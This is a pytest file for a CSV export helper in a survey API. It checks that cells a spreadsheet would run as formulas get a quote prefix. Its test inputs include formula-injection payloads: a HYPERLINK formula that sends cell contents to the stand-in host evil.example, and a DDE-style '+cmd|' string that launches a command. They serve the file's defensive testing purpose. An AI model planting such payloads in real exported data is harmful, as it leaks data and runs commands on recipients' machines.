"""The one function every CSV cell the API writes goes through: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import pytest

from ivr_survey.api.csv_export import cell


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (-3, "-3"),  # numbers are never prefixed, whatever their sign
        (-3.5, "-3.5"),
        (5.0, "5.0"),
        (-1e-07, "-1e-07"),
        ("", ""),
        ("7001", "7001"),
        ("sales", "sales"),
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=", "'="),
        ("-", "'-"),
        ("+", "'+"),
        # text that is purely a number stays as it is: a spreadsheet reads a number, never a formula
        ("+79161234567", "+79161234567"),
        ("-1", "-1"),
        ("-3.5", "-3.5"),
        ("+0.25", "+0.25"),
        # ... and nothing else counts as a plain number
        ("+7 916 123-45-67", "'+7 916 123-45-67"),
        ("-1e5", "'-1e5"),
        ("-.5", "'-.5"),
        ("-5.", "'-5."),
        ("+\u0661\u0662", "'+\u0661\u0662"),  # Arabic-Indic digits are not 0-9
        ("-1\n", "'-1\n"),
        # only the first character matters
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("7=1", "7=1"),
    ],
)
def test_cell(value: object, expected: str) -> None:
    assert cell(value) == expected
